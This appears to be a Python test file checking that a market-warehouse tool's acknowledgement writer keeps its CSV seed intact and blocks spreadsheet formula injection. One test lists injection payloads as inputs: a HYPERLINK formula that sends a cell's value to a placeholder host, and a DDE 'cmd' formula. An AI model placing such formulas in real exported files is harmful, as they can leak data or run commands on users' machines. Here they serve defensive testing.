"""Issue 23, class 9 (and the formula part of class 11): `marketwh acknowledge` must never damage its own
seed, and no acknowledgement text reaches `report_findings` as a spreadsheet formula. In process, on a
scratch copy of the fixture seeds: the writer and the validator are all these attacks need."""

from __future__ import annotations

import datetime as dt
import shutil

import pytest

from marketwh.curation.acknowledgements import acknowledge
from marketwh.curation.validation import validate_project
from marketwh.errors import InputError, MarketWarehouseError
from marketwh.paths import ProjectPaths
from tests.helpers import FIXTURE, read_csv

SEED = "finding_acknowledgements.csv"
HEADER = "finding_key,report_id,reason,acknowledged_by,acknowledged_on"
KEY = "segment_growth_matches_shares:qy_battery_anode_2021:qy21-006"
OTHER = "segment_growth_matches_shares:qy_battery_anode_2021:qy21-007"
FINDINGS = [{"finding_key": KEY, "report_id": "qy_battery_anode_2021"}, {"finding_key": OTHER, "report_id": "qy_battery_anode_2021"}]
ON = dt.date(2026, 12, 6)


@pytest.fixture
def root(tmp_path):
    for name in ("seeds", "reports"):
        shutil.copytree(FIXTURE / name, tmp_path / name)
    return tmp_path


def test_acknowledge_appends_after_a_last_line_without_newline_and_into_an_empty_file(root):
    seed = root / "seeds" / SEED
    seed.write_text(f"{HEADER}\n{OTHER},qy_battery_anode_2021,shares as printed,analyst,2026-12-01", encoding="utf-8")
    acknowledge(root / "seeds", FINDINGS, KEY, "the document prints both numbers", "analyst", ON)
    assert [r["finding_key"] for r in read_csv(seed)] == [OTHER, KEY]  # not glued onto the last line
    assert validate_project(ProjectPaths(root)).errors == []

    seed.write_text("", encoding="utf-8")
    acknowledge(root / "seeds", FINDINGS, KEY, "the document prints both numbers", "analyst", ON)
    assert seed.read_text(encoding="utf-8").splitlines()[0] == HEADER  # the empty file got its header
    assert [r["finding_key"] for r in read_csv(seed)] == [KEY]
    assert not list((root / "seeds").glob(".*.tmp"))  # written to a temporary file and renamed


@pytest.mark.parametrize(
    ("reason", "by", "refusal"),
    [
        ("shares as printed", "   ", "--by is empty"),
        ("\u200b", "analyst", "--reason is empty"),
        (" \u200b\u2060 ", "analyst", "--reason is empty"),
    ],
)
def test_acknowledge_refuses_a_blank_name_or_an_invisible_reason_and_leaves_the_seed_as_it_was(root, reason, by, refusal):
    seed = root / "seeds" / SEED
    before = seed.read_bytes()
    with pytest.raises(MarketWarehouseError, match=refusal):
        acknowledge(root / "seeds", FINDINGS, KEY, reason, by, ON)
    assert seed.read_bytes() == before


def test_acknowledge_refuses_to_append_to_a_broken_seed_naming_its_line(root):
    seed = root / "seeds" / SEED
    seed.write_text(f'{HEADER}\n{OTHER},qy_battery_anode_2021,"unclosed,analyst,2026-12-01\n', encoding="utf-8")
    with pytest.raises(InputError, match=r"seeds/finding_acknowledgements.csv:2: \[csv_quoting\]"):
        acknowledge(root / "seeds", FINDINGS, KEY, "the document prints both numbers", "analyst", ON)


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://x.example/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"])
def test_a_hand_edited_formula_in_an_acknowledgement_is_refused_with_its_line(root, reason):
    seed = root / "seeds" / SEED
    line = f'{KEY},qy_battery_anode_2021,"{reason.replace(chr(34), 2 * chr(34))}",analyst,2026-12-01'
    seed.write_text(f"{HEADER}\n{line}\n", encoding="utf-8")
    errors = [str(p) for p in validate_project(ProjectPaths(root)).errors]
    assert [e for e in errors if "[formula_text]" in e] == [
        next(e for e in errors if e.startswith("seeds/finding_acknowledgements.csv:2: [formula_text] column reason:"))
    ]


def test_the_writer_neutralises_a_formula_reason_so_the_validator_accepts_it(root):
    row = acknowledge(root / "seeds", FINDINGS, KEY, "=QY prints 76.6% while its shares imply 67.6%", "@analyst", ON)
    assert row["reason"].startswith("'=") and row["acknowledged_by"] == "'@analyst"
    assert validate_project(ProjectPaths(root)).errors == []
